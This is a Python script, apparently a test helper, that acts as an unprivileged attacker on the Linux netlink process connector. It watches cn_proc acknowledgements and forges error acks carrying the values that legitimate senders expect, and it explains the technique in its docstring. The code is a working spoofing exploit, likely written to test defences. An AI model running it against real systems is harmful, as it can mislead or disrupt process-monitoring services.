#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""An attacker without privileges: it watches cn_proc's acks and answers each successful one
(err 0) by sending cn_proc an op it refuses with that ack's value minus one: the kernel then
multicasts an error ack carrying exactly the value the original sender waits for.

Where the kernel lets any user join group 1 (most 6.6+ builds) it listens there itself, with the
all-events filter, so it sees every ack. Where it refuses the join (EPERM), it reads the acks from
a group-1 socket that root opened and handed it (--capture-fd FD, already listening): a privileged
accomplice's capture, forged by this unprivileged process from a socket of its own, as sending
needs no group. First line: "ready joined" or "ready refused ERRNO". Runs until stdin closes;
prints how many it replayed."""

import argparse
import select
import socket
import struct
import sys

NETLINK_CONNECTOR = 11
CN_MSG = struct.Struct('=IIIIHH')
NLMSGHDR = struct.Struct('=IHHII')


def frame(ack, op):
    body = CN_MSG.pack(1, 1, 0, ack, 4, 0) + struct.pack('=I', op)
    return NLMSGHDR.pack(NLMSGHDR.size + len(body), 3, 0, 0, 0) + body


def open_capture(capture_fd):
    """(socket the acks are read from, what the join of its own came to)."""
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_CONNECTOR)
    try:
        sock.bind((0, 1))
    except PermissionError as e:
        sock.close()
        if capture_fd is None:
            raise
        return socket.socket(fileno=capture_fd), f'refused {e.errno}'
    sock.sendto(frame(0, 1), (0, 0))            # LISTEN, all events and acks
    return sock, 'joined'


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--capture-fd', type=int)
    args = ap.parse_args()
    capture, how = open_capture(args.capture_fd)
    # Forgeries go out from a socket of this process's own, bound to no group.
    forge = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_CONNECTOR)
    print(f'ready {how}', flush=True)
    replayed = 0
    while not select.select([sys.stdin], [], [], 0)[0]:
        if not select.select([capture], [], [], 0.05)[0]:
            continue
        try:
            data = capture.recv(65536)
        except OSError:
            continue                            # ENOBUFS: we were flooded too
        off = 0
        while off + NLMSGHDR.size + CN_MSG.size + 24 <= len(data):
            nl_len = struct.unpack_from('=I', data, off)[0]
            idx, val, seq, ack, length, _ = CN_MSG.unpack_from(data, off + NLMSGHDR.size)
            body = off + NLMSGHDR.size + CN_MSG.size
            what = struct.unpack_from('=I', data, body)[0]
            err = struct.unpack_from('=I', data, body + 16)[0]
            if (idx, val, what, err) == (1, 1, 0, 0) and ack != 0:
                forge.sendto(frame(ack - 1, 3), (0, 0))
                replayed += 1
            if nl_len < NLMSGHDR.size:
                break
            off += (nl_len + 3) & ~3
    print(f'replayed {replayed}', flush=True)


if __name__ == '__main__':
    main()
